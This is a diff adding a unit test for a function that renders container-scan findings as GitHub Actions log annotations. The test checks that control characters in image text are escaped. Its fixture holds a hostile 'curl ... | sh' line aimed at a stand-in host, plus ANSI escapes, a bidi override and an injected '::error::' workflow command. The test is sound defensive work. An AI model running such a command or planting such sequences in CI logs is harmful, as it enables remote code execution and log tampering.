@@ -49,4 +49,29 @@ describe("renderGithub", () => {
       "",
     ]);
   });
+
+  // Image text (a build step, a label) reaches the CI log through the message: an ANSI sequence
+  // would colour or hide log lines, a bidi override reorder them, as on a terminal.
+  it("shows escape sequences and bidi controls from image text as escapes, keeping line breaks", () => {
+    const hostile = {
+      ...report,
+      findings: [
+        {
+          id: "history.remote-script",
+          severity: "critical",
+          title: "runs a script",
+          detail: "curl http://x.example/\u202eabc\u001b[2J | sh\n::error::injected\u0007",
+          evidence: {},
+        },
+      ],
+    } as unknown as Report;
+    const out = renderGithub([{ report: hostile, locations: [] }], {
+      reviewAt: "medium",
+      blockAt: "critical",
+    });
+    expect(out.split("\n")[0]).toBe(
+      "::error title=history.remote-script [critical]::ghcr.io/acme/app:1.0: runs a script. curl http://x.example/\\u202eabc\\x1b[2J | sh%0A::error::injected\\x07",
+    );
+    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+  });
 });
